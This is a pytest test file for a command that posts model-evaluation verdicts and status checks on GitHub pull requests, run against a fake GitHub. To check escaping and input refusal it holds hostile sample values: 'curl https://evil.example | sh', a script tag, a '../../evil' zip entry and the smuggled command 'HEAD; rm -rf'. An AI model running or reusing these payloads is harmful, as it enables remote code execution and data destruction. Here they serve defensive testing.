"""``soil comment`` from an artifact to what arrives at GitHub: create, renew, fork, hostile, refused."""

from __future__ import annotations

import json
import re
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from soil_assets.cli.comment import comment
from soil_assets.errors import BadInput
from soil_assets.pull_request.artifact import MAX_BYTES, read_claim, read_facts
from soil_assets.reporting.decision_inputs import DecisionInputs
from soil_assets_tests.github_fake import CAP, FakeGitHub, Fault, serving
from soil_assets_tests.pull_request.facts import (
    SETTINGS,
    batch,
    checkout,
    commit,
    event,
    facts,
    held,
    write_artifact,
    write_baseline,
)
from soil_assets_tests.reporting.test_escaping import HOSTILE

SHA, OTHER = "a" * 40, "b" * 40
JUNE = {"filename": "batches/june/spectra.csv", "status": "added"}


@dataclass
class Desk:
    """A checkout of main, and GitHub on loopback with pull request 7 that adds the batch june."""

    fake: FakeGitHub
    folder: Path
    root: Path
    base: str
    capsys: pytest.CaptureFixture[str]

    def artifact(
        self, change: DecisionInputs | None = None, kind: str | None = "strong", number: int = 7
    ) -> Path:
        return write_artifact(
            self.folder / "artifact", change or facts(kind or "strong"), number, self.base, kind
        )

    def run(
        self, artifact: Path | None = None, of_main: str | None = "weak", sha: str = SHA, **options: Any
    ) -> dict[str, Any]:
        """Run the command; the event's facts and the command's options go by name."""
        of_command = ("backend", "plots", "branch", "publish_url", "author", "dry_run", "baseline")
        stated: dict[str, Any] = {
            "sha": "", "backend": "own", "plots": "branch", "branch": "soil-reports", "publish_url": None,
            "author": "github-actions[bot]", "dry_run": False,
            "baseline": write_baseline(self.folder / "baseline", self.base, of_main, ()),
        }  # fmt: skip
        stated |= {k: v for k, v in options.items() if k in of_command}
        head = event(self.folder, sha, **{k: v for k, v in options.items() if k not in of_command})
        comment(artifact=artifact or self.artifact(), event=head, as_json=True, **stated)
        outcome: dict[str, Any] = json.loads(self.capsys.readouterr().out)
        return outcome

    @property
    def states(self) -> list[str]:
        return [s["state"] for s in self.fake.statuses if s["context"] == "soil / decision"]


@pytest.fixture
def desk(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> Iterator[Desk]:
    for name in ("SOIL_BASELINE", "SOIL_LANDING", "SOIL_CONFIG", "GITHUB_STEP_SUMMARY", "GITHUB_EVENT_PATH"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr("soil_assets.adapters.github._backoff", lambda _: 0.0)
    root = tmp_path / "main"
    base = checkout(root)
    monkeypatch.chdir(root)
    with serving(FakeGitHub()) as state:
        state.pull(7, SHA)
        state.files[7] = [JUNE]
        state.pulls[7]["base"] = {"ref": "main", "sha": base}
        state.comparisons[("main", SHA)] = {"merge_base_commit": {"sha": base}}
        monkeypatch.setenv("GITHUB_API_URL", state.url)
        monkeypatch.setenv("GITHUB_REPOSITORY", state.repository)
        monkeypatch.setenv("GITHUB_TOKEN", state.token)
        monkeypatch.setenv("GITHUB_SERVER_URL", "https://github.example")
        yield Desk(state, tmp_path, root, base, capsys)


@pytest.fixture
def pictures() -> None:
    """Ask for the pictures."""


@pytest.fixture(autouse=True)
def _no_pictures(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Drawing takes most of a test's time; the tests of pictures ask for it."""
    if "pictures" not in request.fixturenames:
        monkeypatch.setattr("soil_assets.reporting.decision._property_images", lambda *_: {})


@pytest.mark.usefixtures("pictures")
def test_pass_posts_comment_plots_and_a_green_check(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(desk.folder / "summary.md"))
    outcome = desk.run()
    assert (outcome["outcome"], outcome["verdict"]) == ("created", "approve")
    [body] = [c["body"] for c in desk.fake.ours(7)]
    [status] = desk.fake.statuses
    assert (status["state"], status["context"], status["sha"]) == ("success", "soil / decision", SHA)
    assert status["target_url"].endswith(f"issuecomment-{outcome['comment']}")
    commit = desk.fake.refs["soil-reports"]
    addresses = re.findall(r"(https://github\.example/lab/soil/blob/(\w+)/([^\s?)\"]+?)\?raw=true)", body)
    assert {c for _, c, _ in addresses} == {commit}
    assert {path for _, _, path in addresses} <= set(desk.fake.published("soil-reports"))
    assert len(addresses) >= 4
    assert "pull/7/merge" in body
    assert (desk.folder / "summary.md").read_text(encoding="utf-8").startswith("## Soil models: approve")


def test_every_figure_in_the_comment_is_recomputed_from_the_models(desk: Desk) -> None:
    data = json.loads((desk.artifact() / "report.json").read_text(encoding="utf-8"))
    desk.run()
    [body] = [c["body"] for c in desk.fake.ours(7)]
    for p in data["properties"]:
        for figures in p["metrics"].values():
            assert figures["text"] in body
            assert f"{figures['candidate']:.{figures['decimals']}f}".lstrip("-") in body


@pytest.mark.parametrize(
    ("kind", "of_main", "batches", "verdict"),
    [
        ("weak", "strong", None, "reject"),
        ("weak", "full", None, "cannot tell"),
        ("strong", "weak", (held("june"),), "request changes"),
        ("strong", "weak", (held("june", "readable", drift=None),), "request changes"),
    ],
)
def test_every_verdict_has_its_status(
    desk: Desk, kind: str, of_main: str | None, batches: Any, verdict: str
) -> None:
    change = facts(kind, of_main, **({} if batches is None else {"batches": batches}))
    outcome = desk.run(desk.artifact(change, kind), of_main)
    assert outcome["verdict"] == verdict
    assert desk.states == ["failure"]
    assert f"## Soil models: {verdict}" in desk.fake.ours(7)[0]["body"]


def test_a_fork_that_reports_its_own_verdict_is_judged_by_its_models(desk: Desk) -> None:
    desk.fake.pull(7, SHA, repo="stranger/soil")
    worse = facts("weak", "strong")
    lie = tuple(
        p.model_copy(
            update={
                "comparison": {**(p.comparison or {}), "verdict": "better", "rmse_difference": [-9, -10, -8]},
                "candidate": {**(p.candidate or {}), "metrics": {"rmse": 0.001, "rpiq": 99.0}},
                "checks": tuple(c.model_copy(update={"passed": True}) for c in p.checks),
            }
        )
        for p in worse.properties
    )
    artifact = desk.artifact(worse.model_copy(update={"properties": lie}), "weak")
    outcome = desk.run(artifact, "strong", head_repository={"full_name": "stranger/soil"})
    assert outcome["verdict"] == "reject"


def test_a_loosened_policy_is_judged_by_mains_and_shown(desk: Desk) -> None:
    loose = SETTINGS.replace("bootstrap: 200", "bootstrap: 200\n    margin: 9.0\n    min_rpiq: 0.0")
    desk.fake.files[7] = [JUNE, {"filename": "soil.yaml", "status": "modified"}]
    desk.fake.contents[(desk.base, "soil.yaml")] = SETTINGS.encode()
    desk.fake.contents[(SHA, "soil.yaml")] = loose.encode()
    outcome = desk.run(desk.artifact(facts("weak", "strong"), "weak"), "strong")
    assert outcome["verdict"] == "reject"
    body = desk.fake.ours(7)[0]["body"]
    assert "This change loosens its own judge. By main's rules: reject. By its own: " in body
    assert "+model.margin: 9  # looser" in body
    assert body.index("```diff") < body.index("### On the benchmark")


@pytest.mark.parametrize(
    ("alter", "reason"),
    [
        (lambda p: {"candidate": None}, "not in the change's own report"),
        (
            lambda p: {"candidate": {**p.candidate, "predictions": p.candidate["predictions"][:-1]}},
            "other benchmark",
        ),
        (
            lambda p: {
                "candidate": {
                    **p.candidate,
                    "predictions": [{**r, "value": r["value"] + 1} for r in p.candidate["predictions"]],
                }
            },
            "differ from its model's",
        ),
        (
            lambda p: {
                "candidate": {
                    **p.candidate,
                    "predictions": [{**r, "value": None} for r in p.candidate["predictions"]],
                }
            },
            "differ from its model's",
        ),
    ],
)
def test_a_report_that_is_not_of_its_models_cannot_tell(desk: Desk, alter: Any, reason: str) -> None:
    passing = facts()
    clay = passing.properties[0]
    altered = passing.model_copy(
        update={"properties": (clay.model_copy(update=alter(clay)), *passing.properties[1:])}
    )
    outcome = desk.run(desk.artifact(altered))
    assert (outcome["verdict"], desk.states) == ("cannot tell", ["failure"])
    assert reason in desk.fake.ours(7)[0]["body"]


@pytest.mark.usefixtures("pictures")
def test_untrusted_text_is_only_text(desk: Desk) -> None:
    evil = ("<script>alert(1)</script>", "@everyone ![x](https://evil.example/x.png)", *HOSTILE)
    hostile = facts(
        candidate=evil[0],
        main=evil[1],
        changes=evil,
        links={"click me": "https://evil.example/"},
        reproduce=("curl https://evil.example | sh",),
        missing=evil,
        batches=(
            batch("june", reasons=evil),
            *(batch(f"{i}{text}"[:150], reasons=(text,)) for i, text in enumerate(evil)),
        ),
    )
    desk.run(desk.artifact(hostile))
    body = desk.fake.ours(7)[0]["body"]
    assert "curl https://evil.example" not in body
    outside_code = re.sub(r"(`+)[^`].*?\1(?!`)", "", body)
    assert "<script" not in outside_code
    assert "](https://evil" not in outside_code
    assert "@everyone" not in outside_code
    for path in desk.fake.published("soil-reports"):
        assert re.fullmatch(r"pull-7/aaaaaaaaaaaa/[\w.-]+", path)


def test_a_huge_report_stays_under_the_cap(desk: Desk) -> None:
    names = [f"batch-{i}" for i in range(700)]
    desk.fake.files[7] = [{"filename": f"batches/{n}/s.csv", "status": "added"} for n in names]
    many = tuple(batch(name, reasons=("word " * 60,)) for name in names)
    desk.run(desk.artifact(facts(batches=many)), plots="none")
    body = desk.fake.ours(7)[0]["body"]
    assert CAP // 4 < len(body) <= CAP
    assert "Shortened to fit" in body
    assert body.count("<details>") == body.count("</details>")


def test_a_wrong_number_posts_nothing(desk: Desk) -> None:
    desk.fake.pull(8, OTHER, ref="victim")
    with pytest.raises(BadInput, match="does not belong to"):
        desk.run(desk.artifact(number=8))
    assert desk.fake.comments == {}
    assert [(m, path) for m, path, _ in desk.fake.log if m != "GET"] == [("POST", f"statuses/{SHA}")]
    assert [(s["sha"], s["state"]) for s in desk.fake.statuses] == [(SHA, "error")], (
        "its own commit is not left open"
    )


def test_a_run_without_an_artifact_leaves_no_commit_without_a_decision(desk: Desk) -> None:
    with pytest.raises(BadInput, match="lacks a file"):
        desk.run(desk.folder / "nothing")
    [status] = desk.fake.statuses
    assert (status["state"], status["context"]) == ("error", "soil / decision")
    assert "lacks a file" in status["description"]
    assert desk.fake.comments == {}


@pytest.mark.parametrize(
    ("conclusion", "reason"),
    [
        ("cancelled", "cancelled or ran out of time"),
        ("timed_out", "ran out of time"),
        ("startup_failure", "could not be started"),
        ("action_required", "waits for a maintainer"),
        ("neutral", "ended as neutral"),
        ("", "ended as unknown"),
    ],
)
@pytest.mark.parametrize("artifact", [True, False])
def test_a_run_that_did_not_end_well_is_an_error_whatever_it_left(
    desk: Desk, conclusion: str, reason: str, artifact: bool
) -> None:
    with pytest.raises(BadInput, match=reason):
        desk.run(desk.artifact() if artifact else desk.folder / "nothing", conclusion=conclusion)
    assert desk.states == ["error"]
    assert reason in desk.fake.statuses[0]["description"]
    assert len(desk.fake.ours(7)) == artifact, "the claim says whose comment it is"


def test_a_failed_step_is_no_pass_whatever_the_artifact_shows(desk: Desk) -> None:
    with pytest.raises(BadInput, match="a step of the validating run failed"):
        desk.run(conclusion="failure")
    assert desk.states == ["error"]


def test_a_run_that_was_overtaken_leaves_the_comment_alone(desk: Desk) -> None:
    desk.fake.pull(7, OTHER)
    outcome = desk.run()
    assert outcome["outcome"] == "superseded"
    assert desk.fake.comments == {}
    [status] = desk.fake.statuses
    assert (status["sha"], status["state"]) == (SHA, "error")
    assert "superseded" in status["description"]


def test_an_older_run_of_the_same_commit_changes_nothing(desk: Desk) -> None:
    desk.run(run_number=5)
    for artifact in (None, desk.folder / "nothing"):
        outcome = desk.run(artifact, run_number=4, conclusion="cancelled")
        assert outcome["outcome"] == "kept newer"
        assert desk.states == ["success"]


def test_a_merge_queue_gets_the_check_alone(desk: Desk) -> None:
    """Its files are those of the whole merge: documentation at the tip says nothing of what is below."""
    queued = "c" * 40
    desk.run(run_number=9)
    desk.fake.statuses.clear()
    desk.fake.files[7] = [{"filename": "README.md", "status": "modified"}]
    desk.fake.comparisons[(desk.base, queued)] = {"files": [JUNE]}
    comments = list(desk.fake.comments[7])
    outcome = desk.run(
        sha=queued, event="merge_group", head_branch=f"gh-readonly-queue/main/pr-7-{desk.base}"
    )
    assert (outcome["outcome"], outcome["verdict"]) == ("queued", "approve")
    assert [(s["sha"], s["state"]) for s in desk.fake.statuses] == [(queued, "success")]
    assert desk.fake.comments[7] == comments
    desk.fake.comparisons[(desk.base, queued)] = {"files": [JUNE] * 300}
    with pytest.raises(BadInput, match="does not list every file"):
        desk.run(
            sha=queued,
            event="merge_group",
            head_branch=f"gh-readonly-queue/main/pr-7-{desk.base}",
            run_number=2,
        )
    with pytest.raises(BadInput, match="merge queue"):
        desk.run(
            sha=queued,
            event="merge_group",
            head_branch=f"gh-readonly-queue/main/pr-8-{desk.base}",
            run_number=3,
        )


def test_a_base_that_the_queue_does_not_build_on_is_refused(desk: Desk) -> None:
    """The change's own head as base: the comparison lists what main did meanwhile, which is documentation."""
    queued, own = "c" * 40, "e" * 40
    desk.fake.comparisons[(own, queued)] = {"files": [{"filename": "README.md", "status": "modified"}]}
    branch = f"gh-readonly-queue/main/pr-7-{desk.base}"
    desk.base = own
    with pytest.raises(BadInput, match="another commit than the merge queue"):
        desk.run(desk.artifact(), sha=queued, event="merge_group", head_branch=branch, baseline=None)
    assert desk.states == ["error"]


def test_documentation_is_no_shortcut_while_main_holds_a_link(desk: Desk) -> None:
    (desk.root / "docs").mkdir(exist_ok=True)
    (desk.root / "soil.yaml").rename(desk.root / "docs" / "soil.yaml")
    (desk.root / "soil.yaml").symlink_to("docs/soil.yaml")
    desk.base = commit(desk.root, "settings as a link")
    desk.fake.pulls[7]["base"]["sha"] = desk.base
    desk.fake.comparisons[("main", SHA)] = {"merge_base_commit": {"sha": desk.base}}
    desk.fake.files[7] = [{"filename": "docs/soil.yaml", "status": "modified"}]
    with pytest.raises(BadInput, match="is a link"):
        desk.run()
    assert desk.states == ["error"]


def test_documentation_is_decided_by_githubs_list_alone(desk: Desk) -> None:
    desk.fake.files[7] = [{"filename": "README.md", "status": "modified"}]
    outcome = desk.run(conclusion="failure")
    assert (outcome["verdict"], desk.states) == ("documentation only", ["success"])
    assert len(desk.fake.ours(7)[0]["body"].strip().splitlines()) <= 3
    desk.fake.files[7].append({"filename": "docs/hooks/draw.py", "status": "modified"})
    (desk.folder / "artifact" / "report.json").unlink()
    with pytest.raises(BadInput, match="failed before its report"):
        desk.run(desk.folder / "artifact")


@pytest.mark.parametrize("base", ["not of main", "older than the fork", "unknown"])
def test_a_base_of_the_changes_own_choice_is_refused(desk: Desk, base: str) -> None:
    from soil_assets_tests.pull_request.facts import git

    if base == "not of main":
        git(desk.root, "checkout", "-q", "-b", "other")
        desk.base = commit(desk.root, "another line")
        git(desk.root, "checkout", "-q", "main")
    elif base == "older than the fork":
        newer = commit(desk.root, "main goes on")
        desk.fake.comparisons[("main", SHA)] = {"merge_base_commit": {"sha": newer}}
    else:
        desk.base = "d" * 40
    with pytest.raises(BadInput, match="was compared with a commit"):
        desk.run()
    assert desk.states == ["error"]


def test_a_base_that_main_had_left_behind_before_the_run_is_refused(desk: Desk) -> None:
    artifact = desk.artifact()
    commit(desk.root, "main moves")
    with pytest.raises(BadInput, match="left behind before the run began"):
        desk.run(artifact, created_at="2100-01-01T00:00:00Z")
    assert desk.states == ["error"]
    with pytest.raises(BadInput, match="not a time"):
        desk.run(artifact, created_at=None)


def test_a_base_that_main_has_left_behind_is_judged_as_it_was_merged(desk: Desk) -> None:
    (desk.root / "batches" / "july").mkdir(parents=True)
    (desk.root / "batches" / "july" / "spectra.csv").write_text("july", encoding="utf-8")
    commit(desk.root, "main goes on")
    assert desk.run()["verdict"] == "approve", "july is not expected: the change was merged without it"


@pytest.mark.usefixtures("pictures")
def test_without_the_right_to_publish_plots_words_and_mermaid_stand_in(desk: Desk) -> None:
    desk.fake.faults = [Fault("POST", "git/blobs", 403, {"message": "Resource not accessible"}, times=99)]
    desk.run()
    body = desk.fake.ours(7)[0]["body"]
    assert "```mermaid" in body
    assert "![" not in body


@pytest.mark.parametrize("status", [403, 422, 500])
@pytest.mark.parametrize(
    ("kind", "of_main", "state"), [("weak", "strong", "failure"), ("strong", "weak", "success")]
)
def test_a_comment_that_cannot_be_written_still_sets_the_check(
    desk: Desk, status: int, kind: str, of_main: str, state: str
) -> None:
    desk.fake.faults = [Fault("POST", r"issues/7/comments", status, {"message": "no"}, times=99)]
    outcome = desk.run(desk.artifact(facts(kind, of_main), kind), of_main)
    assert (outcome["outcome"], desk.states) == ("comment refused", [state])
    assert str(status) in outcome["why"]


@pytest.mark.parametrize("path", ["pulls/7", "pulls/7/files", r"compare/.*", r"contents/soil\.yaml"])
def test_an_api_that_fails_half_way_is_an_error(desk: Desk, path: str) -> None:
    desk.fake.files[7] = [JUNE, {"filename": "soil.yaml", "status": "modified"}]
    desk.fake.faults = [Fault("GET", path, 502, {"message": "bad gateway"}, times=99)]
    with pytest.raises(BadInput):
        desk.run()
    assert desk.states == ["error"]


@pytest.mark.parametrize("facts_of", [{"state": "closed"}, {"base": {"ref": "elsewhere"}}, {"base": None}])
def test_only_an_open_pull_request_into_the_default_branch_is_judged(
    desk: Desk, facts_of: dict[str, Any]
) -> None:
    desk.fake.pulls[7] |= facts_of
    desk.fake.files[7] = [{"filename": "README.md", "status": "modified"}]
    with pytest.raises(BadInput, match="not an open one into the default branch"):
        desk.run()
    assert desk.states == ["error"]


@pytest.mark.parametrize("call", ["files", "publish"])
def test_a_head_that_moves_meanwhile_is_superseded(
    desk: Desk, call: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from soil_assets.adapters.github import GitHub

    real = getattr(GitHub, call)

    def moving(self: GitHub, *arguments: Any) -> Any:
        desk.fake.pull(7, OTHER)
        desk.fake.files[7] = [{"filename": "README.md", "status": "modified"}]
        return real(self, *arguments)

    monkeypatch.setattr(GitHub, call, moving)
    assert desk.run()["outcome"] == "superseded"
    assert desk.states == ["error"]


def test_a_first_version_is_not_what_an_old_base_says(desk: Desk) -> None:
    """A branch that begins before main had settings could choose to be compared with nothing."""
    (desk.root / "soil.yaml").unlink()
    desk.base = commit(desk.root, "no settings")
    (desk.root / "soil.yaml").write_text(SETTINGS, encoding="utf-8")
    commit(desk.root, "settings")
    desk.fake.pulls[7]["base"]["sha"] = desk.base
    desk.fake.comparisons[("main", SHA)] = {"merge_base_commit": {"sha": desk.base}}
    with pytest.raises(BadInput, match="before main had settings"):
        desk.run(of_main=None)
    assert desk.states == ["error"]


def test_files_that_github_does_not_list_are_missing(desk: Desk) -> None:
    desk.fake.pulls[7]["changed_files"] = 3001
    with pytest.raises(BadInput, match="does not list every file"):
        desk.run()
    assert desk.states == ["error"]


def test_a_dry_run_writes_nothing(desk: Desk) -> None:
    outcome = desk.run(dry_run=True)
    assert outcome["body"].startswith("## Soil models: approve")
    assert {m for m, _, _ in desk.fake.log} == {"GET"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("report.json", b"{"),
        ("report.json", b"[]"),
        ("report.json", b'{"inputs": []}'),
        ("report.json", b'{"inputs": {"candidate": 5}}'),
        ("report.json", b'{"inputs": {"candidate": NaN}}'),
        ("report.json", b"[" * 200_000),
        ("report.json", b"\xff\xfe"),
        ("pull_request.json", b'{"number": "7"}'),
        ("pull_request.json", b'{"number": true}'),
        ("pull_request.json", b'{"number": -1}'),
        ("pull_request.json", b'{"number": 1e99}'),
        ("pull_request.json", b'{"number": 7}'),
        ("pull_request.json", b'{"number": 7, "base": "HEAD"}'),
        ("pull_request.json", None),
        ("report.json", None),
    ],
)
def test_a_malformed_artifact_is_bad_input(tmp_path: Path, name: str, content: bytes | None) -> None:
    artifact = write_artifact(tmp_path / "a", facts("strong", None), kind=None)
    (artifact / name).unlink()
    if content is not None:
        (artifact / name).write_bytes(content)
    with pytest.raises(BadInput):
        _ = read_claim(artifact), read_facts(artifact)


def test_an_artifact_is_read_from_a_zip_and_nothing_is_unpacked(tmp_path: Path) -> None:
    artifact = write_artifact(tmp_path / "a", facts("strong", None), kind=None)
    packed = tmp_path / "a.zip"
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../evil", "x")
        for name in ("report.json", "pull_request.json"):
            archive.write(artifact / name, name)
    before = sorted(tmp_path.rglob("*"))
    assert read_claim(packed).number == 7
    assert read_facts(packed).properties
    assert sorted(tmp_path.rglob("*")) == before
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("report.json", b" " * (MAX_BYTES + 10))
    with pytest.raises(BadInput, match="too large"):
        read_facts(bomb)
    (tmp_path / "no.zip").write_bytes(packed.read_bytes()[:200])
    with pytest.raises(BadInput):
        read_facts(tmp_path / "no.zip")


def test_a_link_in_an_artifact_is_not_followed(tmp_path: Path) -> None:
    artifact = write_artifact(tmp_path / "a", facts("strong", None), kind=None)
    (artifact / "report.json").rename(tmp_path / "outside.json")
    (artifact / "report.json").symlink_to(tmp_path / "outside.json")
    with pytest.raises(BadInput, match="plain file"):
        read_facts(artifact)


@pytest.mark.parametrize(
    ("options", "mend"),
    [
        ({"plots": "cml"}, "--publish-url"),
        ({"plots": "cml", "backend": "cml"}, "--publish-url"),
        ({"backend": "mail"}, "own, cml"),
        ({"plots": "everywhere"}, "branch, cml, none"),
    ],
)
def test_options_that_do_not_fit_are_refused_before_anything_is_asked(
    desk: Desk, options: dict[str, Any], mend: str
) -> None:
    with pytest.raises(BadInput, match=mend):
        desk.run(desk.folder / "nothing", **options)
    assert desk.fake.log == []


def test_without_a_token_or_an_event_nothing_is_asked(desk: Desk, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(BadInput, match="workflow_run"):
        desk.run(event="push")
    with pytest.raises(BadInput, match="40 hexadecimal"):
        desk.run(sha="HEAD; rm -rf")
    monkeypatch.delenv("GITHUB_TOKEN")
    with pytest.raises(BadInput, match="GITHUB_TOKEN"):
        desk.run()
    assert desk.fake.log == []
